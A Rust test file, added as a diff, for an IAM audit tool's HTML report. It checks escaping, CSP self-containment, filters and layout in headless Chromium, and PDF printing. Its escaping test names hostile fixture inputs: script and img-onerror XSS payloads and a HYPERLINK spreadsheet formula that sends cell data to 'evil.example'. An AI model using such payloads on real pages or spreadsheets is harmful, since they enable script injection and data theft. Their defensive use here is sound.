@@ -1,0 +1,496 @@
+//! The HTML report in a real browser (headless Chromium, which `.ci/run`
+//! installs): counts and filters as the script applies them, the page
+//! fitted to its container from a phone's width to a desktop's, an
+//! organization's accounts and filter, the passes collapsed, a framework's
+//! requirements, and the page printed to PDF and read back (`pdftotext`).
+
+mod common;
+
+use std::path::{Path, PathBuf};
+
+use common::*;
+use serde_json::Value;
+
+fn render(path: &str, format: &str) -> String {
+    render_format(path, format)
+}
+
+fn json(path: &str) -> Value {
+    json_report(&[path]).1
+}
+
+fn html_count(html: &str, status: &str) -> u64 {
+    let marker = format!("id=\"count-{status}\">");
+    let start = html.find(&marker).expect("a count") + marker.len();
+    let end = start + html[start..].find('<').unwrap();
+    html[start..end].parse().unwrap()
+}
+
+#[test]
+fn html_is_self_contained_and_escapes_every_name() {
+    for (_, path) in FORMAT_FIXTURES {
+        let html = render(path, "html");
+        assert_eq!(
+            html.matches("<script").count(),
+            1,
+            "{path}: only our script"
+        );
+        for external in ["src=", "href=", "url(", "@import", "http://", "https://"] {
+            assert!(
+                !html.contains(external) || path.contains("hostile"),
+                "{path}: `{external}` would load something"
+            );
+        }
+        assert!(html.contains("Content-Security-Policy\" content=\"default-src 'none'"));
+    }
+    let html = render("tests/fixtures/hostile-names", "html");
+    assert!(html.contains("user/&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
+    assert!(html.contains("user/&lt;img src=x onerror=alert(1)&gt;"));
+    assert!(!html.contains("<img"));
+    assert!(!html.contains("<i>x</i>"));
+    // The only `http` in the page is inside escaped evidence text.
+    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1"));
+}
+
+#[test]
+fn html_counts_match_the_json_summary() {
+    for (_, path) in FORMAT_FIXTURES {
+        let report = json(path);
+        let html = render(path, "html");
+        for status in [
+            "fail",
+            "error",
+            "not-evaluated",
+            "not-applicable",
+            "waived",
+            "pass",
+            "total",
+        ] {
+            assert_eq!(
+                html_count(&html, status),
+                report["summary"][status].as_u64().unwrap(),
+                "{path}: {status}"
+            );
+        }
+        let rows = html.matches("<tr class=\"result ").count() as u64;
+        assert_eq!(rows, report["summary"]["total"].as_u64().unwrap());
+    }
+}
+
+/// Headless Chromium, when installed (`.ci/run` installs it; under `CI` a
+/// missing browser fails the test instead of skipping it).
+fn chromium() -> Option<PathBuf> {
+    for candidate in ["/usr/bin/chromium", "/usr/bin/chromium-browser"] {
+        if Path::new(candidate).exists() {
+            return Some(PathBuf::from(candidate));
+        }
+    }
+    if std::env::var_os("CI").is_some() {
+        panic!("headless Chromium is required under CI: `apt-get install chromium` (.ci/run does)");
+    }
+    eprintln!(
+        "skipping: Chromium is not installed (`apt-get install chromium`); under CI this test runs"
+    );
+    None
+}
+
+/// The DOM after the page's script ran, as Chromium serializes it.
+fn dump_dom(browser: &Path, url: &str) -> String {
+    let profile = tempfile::tempdir().unwrap();
+    let out = std::process::Command::new(browser)
+        .args([
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-quic",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            "--disable-dev-shm-usage",
+        ])
+        .arg(format!("--user-data-dir={}", profile.path().display()))
+        .arg("--dump-dom")
+        .arg(url)
+        .output()
+        .expect("chromium runs");
+    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        dom.contains("</html>"),
+        "no DOM from chromium: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    dom
+}
+
+fn shown(dom: &str) -> u64 {
+    let marker = "data-shown=\"";
+    let start = dom.find(marker).expect("the shown counter") + marker.len();
+    let end = start + dom[start..].find('"').unwrap();
+    dom[start..end].parse().unwrap()
+}
+
+#[test]
+fn html_in_a_real_browser_shows_the_right_counts_and_runs_no_evidence() {
+    let Some(browser) = chromium() else { return };
+    let tmp = tempfile::tempdir().unwrap();
+    for (name, path) in FORMAT_FIXTURES {
+        let report = json(path);
+        let file = tmp.path().join(format!("{name}.html"));
+        std::fs::write(&file, render(path, "html")).unwrap();
+        let url = format!("file://{}", file.display());
+        let summary = &report["summary"];
+        let n = |k: &str| summary[k].as_u64().unwrap();
+
+        let dom = dump_dom(&browser, &url);
+        for status in [
+            "fail",
+            "error",
+            "not-evaluated",
+            "not-applicable",
+            "pass",
+            "total",
+        ] {
+            assert_eq!(html_count(&dom, status), n(status), "{name}: {status}");
+        }
+        // The script ran (it writes the counter) and shows every result.
+        assert!(dom.contains(&format!("{} of {} results shown", n("total"), n("total"))));
+        assert_eq!(shown(&dom), n("total"));
+        // Nothing from the evidence executed or became an element.
+        assert!(
+            dom.contains("<title>IAM audit report"),
+            "{name}: title changed"
+        );
+        assert_eq!(dom.matches("<script").count(), 1, "{name}");
+        assert!(!dom.contains("<img"), "{name}");
+
+        // Filters, set through the URL as a person would share them.
+        let failing = dump_dom(&browser, &format!("{url}#status=fail"));
+        assert_eq!(shown(&failing), n("fail"), "{name}: status filter");
+        let high_fail = dump_dom(
+            &browser,
+            &format!("{url}#status=fail&control=support-role-trust-requires-mfa"),
+        );
+        let expected = failing_count(&report, "support-role-trust-requires-mfa");
+        assert_eq!(shown(&high_fail), expected, "{name}: control filter");
+        // A malformed part of the fragment is skipped; the others apply.
+        let malformed = dump_dom(&browser, &format!("{url}#q=%E0%A4%A&status=fail"));
+        assert_eq!(shown(&malformed), n("fail"), "{name}: malformed fragment");
+    }
+    // The text filter searches the finding too, not only the subject.
+    let file = tmp.path().join("demo.html");
+    let url = format!("file://{}", file.display());
+    let searched = dump_dom(&browser, &format!("{url}#q=BoolIfExists"));
+    let found = shown(&searched);
+    assert!(found >= 1, "no row found by its finding's text");
+    assert!(found < json("snapshots/demo")["summary"]["total"].as_u64().unwrap());
+}
+
+fn failing_count(report: &Value, policy: &str) -> u64 {
+    report["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["policy"] == policy && r["status"] == "fail")
+        .count() as u64
+}
+
+/// `pdftotext`, for reading back a printed report; required under CI
+/// (`.ci/run` installs `poppler-utils`), else the print test is skipped.
+fn pdftotext() -> Option<PathBuf> {
+    let path = PathBuf::from("/usr/bin/pdftotext");
+    if path.exists() {
+        return Some(path);
+    }
+    if std::env::var_os("CI").is_some() {
+        panic!("pdftotext is required under CI: `apt-get install poppler-utils` (.ci/run does)");
+    }
+    None
+}
+
+/// The HTML report printed to PDF by headless Chromium keeps what an
+/// auditor files: every result's finding whole, its evidence column, the
+/// table header on every page, and none of the filter widgets.
+#[test]
+fn html_prints_every_finding_and_its_evidence() {
+    let (Some(browser), Some(pdftotext)) = (chromium(), pdftotext()) else {
+        return;
+    };
+    let tmp = tempfile::tempdir().unwrap();
+    let html = tmp.path().join("demo.html");
+    std::fs::write(&html, render("snapshots/demo", "html")).unwrap();
+    let pdf = tmp.path().join("demo.pdf");
+    let profile = tempfile::tempdir().unwrap();
+    let out = std::process::Command::new(&browser)
+        .args([
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            "--disable-dev-shm-usage",
+            "--no-pdf-header-footer",
+        ])
+        .arg(format!("--user-data-dir={}", profile.path().display()))
+        .arg(format!("--print-to-pdf={}", pdf.display()))
+        .arg(format!("file://{}", html.display()))
+        .output()
+        .expect("chromium runs");
+    assert!(
+        pdf.exists(),
+        "no PDF: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // `-raw`: the text in the order Chromium wrote it, cell by cell, so a
+    // finding wrapped in its column reads whole.
+    let text = std::process::Command::new(pdftotext)
+        .arg("-raw")
+        .arg(&pdf)
+        .arg("-")
+        .output()
+        .expect("pdftotext runs");
+    let text = String::from_utf8_lossy(&text.stdout).into_owned();
+    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+    let report = json("snapshots/demo");
+    let results = report["results"].as_array().unwrap();
+    // Every result that is not a pass, its finding whole.
+    for r in results.iter().filter(|r| r["status"] != "pass") {
+        let message: String = r["message"]
+            .as_str()
+            .unwrap()
+            .replace('`', "")
+            .chars()
+            .filter(|c| !c.is_whitespace())
+            .collect();
+        assert!(squeezed.contains(&message), "finding cut: {}", r["message"]);
+    }
+    // The evidence column: one file name per printed row. Passes print
+    // collapsed (their count, not their rows), as the page shows them.
+    let with_file = |file: &str| {
+        results
+            .iter()
+            .filter(|r| r["location"]["file"] == file && r["status"] != "pass")
+            .count()
+    };
+    let tail_count = |tail: &str| text.matches(tail).count();
+    assert!(tail_count("report.json") >= with_file("credential-report.json"));
+    assert!(tail_count("details.json") >= with_file("authorization-details.json"));
+    // The header repeats on every page the results table spans.
+    assert!(text.matches("STATUS").count() >= 2, "{text}");
+    // The passes are counted.
+    let passes = results.iter().filter(|r| r["status"] == "pass").count();
+    assert!(
+        text.contains(&format!("{passes} passed results")),
+        "{text}"
+    );
+    // No widgets.
+    assert!(!text.contains("results shown"));
+}
+
+/// The page's layout measured in Chromium inside an `<iframe>` of the
+/// given width (headless windows cannot be narrower than 500 px; an
+/// iframe is a viewport of its own, so the page's media queries see its
+/// width). The measuring script runs in the wrapper page, so the report is
+/// the very file `evaluate` wrote, CSP included. Returns the viewport's
+/// width, the document's scroll width, `main`'s right edge and each
+/// table's right edge.
+fn layout(browser: &Path, report: &Path, width: u32) -> (f64, f64, f64, Vec<(String, f64)>) {
+    let dir = report.parent().unwrap();
+    let wrapper = dir.join(format!("wrap-{width}.html"));
+    std::fs::write(
+        &wrapper,
+        format!(
+            r#"<!DOCTYPE html><html><body style="margin:0"><iframe id="f" src="{}" style="width:{width}px;height:900px;border:0"></iframe>
+<script>document.getElementById("f").addEventListener("load", function () {{
+  var w = this.contentWindow, d = w.document;
+  var r = {{vw: d.documentElement.clientWidth, scroll: d.documentElement.scrollWidth, main: d.querySelector("main").getBoundingClientRect().right, tables: []}};
+  d.querySelectorAll("main table").forEach(function (t) {{ var b = t.getBoundingClientRect(); if (b.width > 0) {{ r.tables.push([t.id || t.className, b.right]); }} }});
+  var p = document.createElement("pre"); p.id = "measure"; p.textContent = JSON.stringify(r); document.body.appendChild(p);
+}});</script></body></html>"#,
+            report.file_name().unwrap().to_str().unwrap()
+        ),
+    )
+    .unwrap();
+    let profile = tempfile::tempdir().unwrap();
+    let out = std::process::Command::new(browser)
+        .args([
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            "--disable-dev-shm-usage",
+            // The wrapper reads the framed page's layout: both are files.
+            "--allow-file-access-from-files",
+            "--window-size=1600,1000",
+            "--virtual-time-budget=5000",
+        ])
+        .arg(format!("--user-data-dir={}", profile.path().display()))
+        .arg("--dump-dom")
+        .arg(format!("file://{}", wrapper.display()))
+        .output()
+        .expect("chromium runs");
+    let dom = String::from_utf8_lossy(&out.stdout);
+    let start = dom
+        .find("<pre id=\"measure\">")
+        .unwrap_or_else(|| panic!("no measurement: {}", String::from_utf8_lossy(&out.stderr)))
+        + "<pre id=\"measure\">".len();
+    let end = start + dom[start..].find("</pre>").unwrap();
+    let m: Value = serde_json::from_str(&dom[start..end].replace("&quot;", "\"")).unwrap();
+    let tables = m["tables"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| (t[0].as_str().unwrap().to_string(), t[1].as_f64().unwrap()))
+        .collect();
+    (
+        m["vw"].as_f64().unwrap(),
+        m["scroll"].as_f64().unwrap(),
+        m["main"].as_f64().unwrap(),
+        tables,
+    )
+}
+
+/// At a desktop's 1,400 px and a phone's 400 px every table fits its
+/// container and nothing scrolls sideways, for the demo with a benchmark's
+/// requirements, an organization, and names long and hostile.
+#[test]
+fn html_fits_its_container_from_phone_to_desktop() {
+    let Some(browser) = chromium() else { return };
+    let tmp = tempfile::tempdir().unwrap();
+    let pages = [
+        ("demo", vec!["snapshots/demo", "--benchmark", "cis-aws-v5.0"]),
+        ("org", vec!["snapshots/org"]),
+        ("hostile", vec!["tests/fixtures/hostile-names"]),
+    ];
+    for (name, args) in pages {
+        let file = tmp.path().join(format!("{name}.html"));
+        let mut argv = vec!["evaluate"];
+        argv.extend(args);
+        let file_arg = file.to_str().unwrap().to_string();
+        argv.extend(["--format", "html", "-o", &file_arg]);
+        let out = run(&argv);
+        assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
+        for width in [1400, 400] {
+            let (vw, scroll, main, tables) = layout(&browser, &file, width);
+            assert!(vw <= width as f64 && vw > width as f64 - 40.0, "{name}@{width}: {vw}");
+            assert!(scroll <= vw, "{name}@{width}: scrolls sideways ({scroll} > {vw})");
+            assert!(!tables.is_empty(), "{name}@{width}");
+            for (table, right) in tables {
+                assert!(
+                    right <= main + 0.5,
+                    "{name}@{width}: table `{table}` overflows its container ({right} > {main})"
+                );
+            }
+        }
+    }
+}
+
+/// An organization's page: a summary row per account whose button (or a
+/// shared `#account=` link) filters the results to that account, an
+/// account filter, and the passes collapsed until asked for.
+#[test]
+fn html_of_an_organization_filters_by_account_and_collapses_passes() {
+    let report = json("snapshots/org");
+    let html = render("snapshots/org", "html");
+    let snapshots = report["snapshots"].as_array().unwrap();
+    assert!(html.contains("<section id=\"accounts\">"));
+    assert!(html.contains("<select id=\"f-account\">"));
+    for s in snapshots {
+        let id = s["account"].as_str().unwrap();
+        assert!(
+            html.contains(&format!("class=\"show-account\" data-account=\"{id}\"")),
+            "{id}"
+        );
+    }
+    let passes = report["summary"]["pass"].as_u64().unwrap();
+    assert!(passes > 0);
+    assert!(html.contains(&format!(
+        "<details id=\"passes\"><summary>{passes} passed results"
+    )));
+    // Collapsed: no `open` on the passes.
+    assert!(!html.contains("<details id=\"passes\" open"));
+
+    let Some(browser) = chromium() else { return };
+    let tmp = tempfile::tempdir().unwrap();
+    let file = tmp.path().join("org.html");
+    std::fs::write(&file, &html).unwrap();
+    let url = format!("file://{}", file.display());
+    for s in snapshots {
+        let id = s["account"].as_str().unwrap();
+        let dom = dump_dom(&browser, &format!("{url}#account={id}"));
+        let expected = report["results"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|r| r["account"] == id)
+            .count() as u64;
+        assert!(expected > 0);
+        assert_eq!(shown(&dom), expected, "account {id}");
+    }
+    // Asking for passes opens them.
+    let dom = dump_dom(&browser, &format!("{url}#status=pass"));
+    assert_eq!(shown(&dom), passes);
+    assert!(dom.contains("<details id=\"passes\" open"), "passes stay closed");
+    let dom = dump_dom(&browser, &url);
+    assert!(!dom.contains("<details id=\"passes\" open"));
+}
+
+/// `--benchmark`: the page lists every requirement of the benchmark with
+/// the status the JSON report gives it, the undecidable ones as MANUAL, and
+/// a requirement's control links to that control's results.
+#[test]
+fn html_shows_a_benchmarks_requirements_with_their_statuses() {
+    let args = ["snapshots/demo", "--benchmark", "cis-aws-v5.0"];
+    let (_, report) = json_report(&args);
+    let out = run(&[
+        "evaluate",
+        "snapshots/demo",
+        "--benchmark",
+        "cis-aws-v5.0",
+        "--format",
+        "html",
+    ]);
+    let html = stdout(&out);
+    let view = &report["frameworks"][0];
+    let requirements = view["requirements"].as_array().unwrap();
+    assert_eq!(requirements.len(), 21);
+    let section = &html[html.find("<section class=\"framework\"").unwrap()..];
+    let section = &section[..section.find("</section>").unwrap()];
+    let rows: Vec<&str> = section.split("<tr class=\"req\">").skip(1).collect();
+    assert_eq!(rows.len(), requirements.len());
+    for (row, r) in rows.iter().zip(requirements) {
+        assert!(
+            row.starts_with(&format!("<td>{}</td>", r["id"].as_str().unwrap())),
+            "{row}"
+        );
+        let status = r["status"].as_str().unwrap();
+        assert!(
+            row.contains(&format!("<span class=\"badge {status}\">")),
+            "{row}: {status}"
+        );
+    }
+    assert!(section.contains(">MANUAL</span>"));
+    assert!(section.contains("href=\"#control=console-password-requires-mfa\""));
+
+    let Some(browser) = chromium() else { return };
+    let tmp = tempfile::tempdir().unwrap();
+    let file = tmp.path().join("demo.html");
+    std::fs::write(&file, &html).unwrap();
+    let url = format!("file://{}", file.display());
+    let dom = dump_dom(
+        &browser,
+        &format!("{url}#control=console-password-requires-mfa"),
+    );
+    let expected = report["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["policy"] == "console-password-requires-mfa")
+        .count() as u64;
+    assert_eq!(shown(&dom), expected);
+}
